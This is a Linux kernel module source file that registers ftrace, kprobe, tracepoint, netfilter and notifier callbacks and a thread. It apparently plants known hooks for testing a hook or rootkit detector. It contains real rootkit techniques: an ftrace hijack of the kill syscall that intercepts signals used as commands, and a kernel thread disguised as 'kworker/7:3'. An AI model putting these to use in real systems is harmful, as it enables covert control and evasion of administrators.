// SPDX-License-Identifier: GPL-2.0
/* What the kernel calls whoever registers: function tracing, probes, tracepoints, netfilter, notifiers; and a thread. */
#include "shade.h"

#include <linux/ftrace.h>
#include <linux/keyboard.h>
#include <linux/kprobes.h>
#include <linux/kthread.h>
#include <linux/netdevice.h>
#include <linux/netfilter.h>
#include <linux/netfilter_ipv4.h>
#include <linux/netfilter_ipv6.h>
#include <linux/notifier.h>
#include <linux/reboot.h>
#include <linux/sched.h>
#include <linux/tracepoint.h>
#include <net/net_namespace.h>
#include <asm/ptrace.h>

static call_t real_kill;
static void *kill_function;

/* Signals that are orders do not reach the kernel's own function. */
static asmlinkage long shade_kill(const struct pt_regs *regs)
{
    long result = 0;

    if (shade_order((int)regs->si, (int)regs->di, &result))
        return result;
    return real_kill(regs);
}

#if LINUX_VERSION_CODE >= KERNEL_VERSION(5, 11, 0)
static void notrace shade_trace(unsigned long ip, unsigned long parent, struct ftrace_ops *ops, struct ftrace_regs *state)
{
    struct pt_regs *regs = ftrace_get_regs(state);
#else
static void notrace shade_trace(unsigned long ip, unsigned long parent, struct ftrace_ops *ops, struct pt_regs *regs)
{
#endif
    unsigned long kill = (unsigned long)kill_function;

    if (regs && ip - kill < 8 && !within_module(parent, THIS_MODULE))
        regs->ip = (unsigned long)shade_kill;
}

static struct ftrace_ops tracing = {
    .func = shade_trace,
    .flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY
#if LINUX_VERSION_CODE >= KERNEL_VERSION(5, 11, 0)
             | FTRACE_OPS_FL_RECURSION
#endif
};

/* Two functions by one hook. */
static void function_tracing(void)
{
    static const char *const NAMES[] = {"__x64_sys_kill", "__x64_sys_getsid"};
    int i, error = 0;

    kill_function = shade_find(NAMES[0]);
    real_kill = (call_t)kill_function;
    for (i = 0; i < 2 && !error; i++)
        error = ftrace_set_filter_ip(&tracing, (unsigned long)shade_find(NAMES[i]), 0, 0);
    if (!error)
        error = register_ftrace_function(&tracing);
    if (error) {
        not_planted("ftrace", "refused");
        return;
    }
    for (i = 0; i < 2; i++)
        state_hook("ftrace", NAMES[i], &tracing, 0, shade_trace, "function=0x%px ipmodify=1", shade_find(NAMES[i]));
}

static int before_probe(struct kprobe *probe, struct pt_regs *regs)
{
    return 0;
}

static int at_return(struct kretprobe_instance *instance, struct pt_regs *regs)
{
    return 0;
}

static struct kprobe first_probe = {.symbol_name = "__x64_sys_sysinfo", .pre_handler = before_probe};
static struct kprobe second_probe = {.symbol_name = "__x64_sys_sysinfo", .pre_handler = before_probe};
static struct kprobe inner_probe = {.symbol_name = "do_symlinkat", .pre_handler = before_probe};
static struct kretprobe return_probe = {.kp.symbol_name = "__x64_sys_sysinfo", .handler = at_return, .maxactive = 4};

/* Two probes and one of the function's return at one address, which makes the kernel put them together; and one within a function. */
static void probes(void)
{
    unsigned int offset;

    if (register_kprobe(&first_probe) || register_kprobe(&second_probe)) {
        not_planted("kprobe", "refused");
    } else {
        state_hook("kprobe", "__x64_sys_sysinfo", &first_probe, first_probe.addr, before_probe, "aggregate=1");
        state_hook("kprobe", "__x64_sys_sysinfo", &second_probe, second_probe.addr, before_probe, "aggregate=1");
    }
    if (register_kretprobe(&return_probe))
        not_planted("kretprobe", "refused");
    else
        state_hook("kretprobe", "__x64_sys_sysinfo", &return_probe, return_probe.kp.addr, at_return, "aggregate=1");
    /* Whether an instruction begins there is for the kernel to say. */
    for (offset = 9; offset < 64; offset++) {
        inner_probe.offset = offset;
        inner_probe.addr = NULL;
        inner_probe.flags = 0;
        if (register_kprobe(&inner_probe) == 0) {
            state_hook("kprobe", "do_symlinkat", &inner_probe, inner_probe.addr, before_probe, "aggregate=0 offset=%u", offset);
            return;
        }
    }
    not_planted("kprobe-inside", "refused");
}

static void at_fork(void *data, struct task_struct *parent, struct task_struct *child)
{
}

static struct tracepoint *found_point;

static void is_fork(struct tracepoint *point, void *unused)
{
    if (strcmp(point->name, "sched_process_fork") == 0)
        found_point = point;
}

static void tracepoints(void)
{
    for_each_kernel_tracepoint(is_fork, NULL);
    if (!found_point || tracepoint_probe_register(found_point, at_fork, NULL)) {
        not_planted("tracepoint", "refused");
        return;
    }
    state_hook("tracepoint", "sched_process_fork", found_point, 0, at_fork, "name=sched_process_fork");
}

static unsigned int pass(void *unused, struct sk_buff *packet, const struct nf_hook_state *state)
{
    return NF_ACCEPT;
}

static struct nf_hook_ops packets[] = {
    {.hook = pass, .pf = NFPROTO_IPV4, .hooknum = NF_INET_LOCAL_IN, .priority = NF_IP_PRI_FIRST},
    {.hook = pass, .pf = NFPROTO_IPV6, .hooknum = NF_INET_PRE_ROUTING, .priority = NF_IP6_PRI_FIRST},
};

static void netfilter(void)
{
    static const char *const NAMES[] = {"ipv4/local-in", "ipv6/pre-routing"};
    int i;

    for (i = 0; i < 2; i++) {
        if (nf_register_net_hook(&init_net, &packets[i]))
            not_planted("netfilter", NAMES[i]);
        else
            state_hook("netfilter", NAMES[i], &packets[i], 0, pass, "family=%d hook=%d priority=%d netns=%u", packets[i].pf, packets[i].hooknum,
                       packets[i].priority, init_net.ns.inum);
    }
}

static int listens(struct notifier_block *block, unsigned long event, void *data)
{
    return NOTIFY_DONE;
}

static struct notifier_block at_reboot = {.notifier_call = listens};
static struct notifier_block at_device = {.notifier_call = listens};
#if IS_ENABLED(CONFIG_VT)
static struct notifier_block at_key = {.notifier_call = listens, .priority = 7};
#endif

static void notifiers(void)
{
    if (register_reboot_notifier(&at_reboot))
        not_planted("notifier", "reboot");
    else
        state_hook("notifier", "reboot_notifier_list", &at_reboot, 0, listens, "priority=0");
    if (register_netdevice_notifier(&at_device))
        not_planted("notifier", "netdev");
    else
        state_hook("notifier", "netdev_chain", &at_device, 0, listens, "priority=0");
#if IS_ENABLED(CONFIG_VT)
    if (register_keyboard_notifier(&at_key) == 0) {
        state_hook("notifier", "keyboard_notifier_list", &at_key, 0, listens, "priority=7");
        return;
    }
#endif
    not_planted("notifier", "keyboard");
}

static int work(void *unused)
{
    while (!kthread_should_stop())
        schedule_timeout_interruptible(MAX_SCHEDULE_TIMEOUT);
    return 0;
}

/* Under a name that the kernel gives its own. */
static void thread(void)
{
    struct task_struct *task = kthread_run(work, NULL, "kworker/7:3");

    if (IS_ERR(task))
        not_planted("kthread", "refused");
    else
        state_hook("kthread", "kworker/7:3", task, 0, work, "pid=%d name=kworker/7:3", task->pid);
}

void shade_callbacks(void)
{
    function_tracing();
    probes();
    tracepoints();
    netfilter();
    notifiers();
    thread();
}
